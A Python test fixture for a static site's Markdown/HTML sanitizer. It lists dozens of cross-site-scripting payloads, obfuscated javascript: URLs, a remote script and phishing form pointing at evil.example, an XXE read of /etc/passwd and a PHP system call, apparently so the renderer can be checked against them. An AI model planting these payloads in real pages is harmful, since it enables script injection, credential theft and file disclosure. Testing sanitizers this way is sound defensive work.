"""Raw HTML and addresses in texts."""

from __future__ import annotations

from .site import Inputs, news, texts

RUN = "window.pwned=1"

HTML: Inputs = texts(
    {
        "script": f"<script>{RUN}</script>",
        "script-in-capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "script-unclosed": f"Так <script>{RUN}",
        "script-with-slash": "<script/src=data:,pwned=1></script>",
        "script-over-lines": f"<script\n>{RUN}</script\n>",
        "script-in-script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        "script-cut-by-a-reference": f"<scr&#0;ipt>{RUN}</scr&#0;ipt>",
        "script-after-closed-page": f"</title></main></body><script>{RUN}</script>",
        "script-in-a-comment": f"<!--[if IE]><script>{RUN}</script><![endif]-->Так",
        "script-in-cdata": f"<![CDATA[<script>{RUN}</script>]]>Так",
        "script-in-markdown-html": f'<div markdown="1"><script>{RUN}</script></div>',
        "handler-of-a-picture": "<img src=x.png onerror=alert(1)>",
        "handler-that-markdown-shows": f"<img src=x.png onerror={RUN}>",
        "handler-after-slash": f'<img/src="x.png"/onerror="{RUN}">',
        "handler-with-broken-quotes": f'<img """><script>{RUN}</script>">',
        "handler-on-click": f'<p onclick="{RUN}">Так</p>',
        "handler-over-lines": f'<p\nonmouseover\n=\n"{RUN}">Так</p>',
        "handler-on-toggle": f"<details open ontoggle={RUN}>Так</details>",
        "handler-behind-an-entity": f'<a href="https://example.com/?&quot; onmouseover={RUN} x=&quot;">Так</a>',
        "handler-spelled-by-entities": f'<a href="/" on&#99;lick="{RUN}">Так</a>',
        "svg": f"<svg onload={RUN}>",
        "svg-with-script": f"<svg><script>{RUN}</script></svg>",
        "svg-animation": f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>a</text></a></svg>",
        "mathml": f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
        "mathml-that-mutates": "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        "template": f"<template><script>{RUN}</script></template>",
        "iframe": '<iframe src="https://evil.example/"></iframe>',
        "iframe-srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
        "object": '<object data="data:text/html,<script>pwned=1</script>"></object>',
        "embed": '<embed src="https://evil.example/a.swf">',
        "form": '<form action="https://evil.example/"><input name=p><button>Увійти</button></form>',
        "form-action": f'<button formaction="javascript:{RUN}">Так</button>',
        "input": f"<input autofocus onfocus={RUN}>",
        "select": f"<select autofocus onfocus={RUN}>",
        "textarea": f"<textarea><img src=x onerror={RUN}></textarea>",
        "base": '<base href="https://evil.example/">',
        "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        "link": "<link rel=stylesheet href=https://evil.example/x.css>",
        "style": "<style>body{display:none}</style>",
        "audio": f"<audio src=x onerror={RUN}></audio>",
        "video": f'<video><source onerror="{RUN}"></video>',
        "xmp": f"<xmp><script>{RUN}</script></xmp>",
        "frameset": f"<frameset onload={RUN}>",
        "map": f"<map name=m><area href=javascript:{RUN}></map>",
        "custom-element": "<x-foo onclick=alert(1)>Так</x-foo>",
        "label-of-a-link": "[<img src=x onerror=alert(1)>](https://a.example/)",
        "note-with-script": f"Так[^<script>]\n\n[^<script>]: <script>{RUN}</script>",
    }
)

LOST: Inputs = texts(
    {
        "style-of-an-element": '<p style="position:fixed;top:0">Так</p>',
        "id-of-the-site": '<p id="main" class="menu">Так</p>',
        "data-attributes": '<p data-controller="x" hidden>Так</p>',
        "new-window": '<a href="https://a.example/" target="_blank" ping="https://evil.example/p">Так</a>',
        "citation-address": f'<blockquote cite="javascript:{RUN}">Так</blockquote>',
        "background": '<table background="javascript:x"><tr><td>Так</td></tr></table>',
        "php": "<?php system('id'); ?>Так",
        "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;Так',
        "closed-page": "Так </div></main></body></html>",
        "plaintext": "<plaintext>Так",
        "marquee": "<marquee>Так</marquee>",
        "dialog": "<dialog open>Так</dialog>",
        "unclosed-comment": "Так <!-- решту сховано",
        "unclosed-quote": '<a href="https://example.com/ title=x>Так',
        "attribute-list": f'Так {{: onclick="{RUN}" }}',
        "unknown-scheme-as-a-tag": "Так <javascript:alert(1)>",
    }
)

ADDRESSES = {
    "js": f"javascript:{RUN}",
    "js-in-capitals": f"JaVaScRiPt:{RUN}",
    "js-by-references": f"&#106;avascript:{RUN}",
    "js-by-named-colon": f"javascript&colon;{RUN}",
    "js-by-hex": f"&#x6A&#x61&#x76&#x61script:{RUN}",
    "js-with-tab": f"java&Tab;script:{RUN}",
    "js-with-line-end": f"java&NewLine;script:{RUN}",
    "js-by-percents": f"%6Aavascript:{RUN}",
    "js-after-space": f" javascript:{RUN}",
    "js-after-control": f"&#1;javascript:{RUN}",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "file": "file:///etc/passwd",
    "blob": "blob:https://a.example/1",
    "ftp": "ftp://a.example/x",
    "without-protocol": "//evil.example/x",
    "backslashes": "\\\\evil.example\\x",
    "slash-backslash": "/\\evil.example/x",
    "http-without-host": "http:evil",
    "three-slashes": "https:///evil.example",
    "intent": "intent://x#Intent;end",
    "word": "ms-word:ofe|u|https://x.example/a.docx",
    "windows-path": "C:\\Windows\\win.ini",
}

URLS: Inputs = {
    **texts({f"link-{name}": f"[Так]({address})" for name, address in ADDRESSES.items()}),
    **texts({f"tag-{name}": f'<a href="{address}">Так</a>' for name, address in ADDRESSES.items()}),
    **texts(
        {
            "reference-link": f'[Так][r]\n\n[r]: javascript:{RUN} "x"',
            "reference-picture": f"![Міст][r]\n\n[r]: javascript:{RUN}",
            "picture-js": f"![Міст](javascript:{RUN})",
            "picture-data": "![Міст](data:image/svg+xml,<svg onload=pwned=1>)",
            "picture-elsewhere": "![Міст](https://evil.example/pixel.gif)",
            "picture-without-protocol": "![Міст](//evil.example/pixel.gif)",
            "video-js": f"{{video}} javascript:{RUN}",
            "video-elsewhere": "{video} https://evil.example/watch?v=1",
            "video-with-quotes": '{video} https://youtu.be/"><script>x</script>',
            "unknown-prefix": "[Так]({include}../x.md)",
            "pelican-tag": "[Так]({tag}x)",
            "pelican-index": "[Так]({index})",
            "template-as-address": "[Так]({{ config }})",
        }
    ),
    "source-js": news("source-js", header=f"source_url: javascript:{RUN}\n"),
    "source-with-quotes": news("source-with-quotes", header='source_url: "https://a.example/\\"><script>"\n'),
}
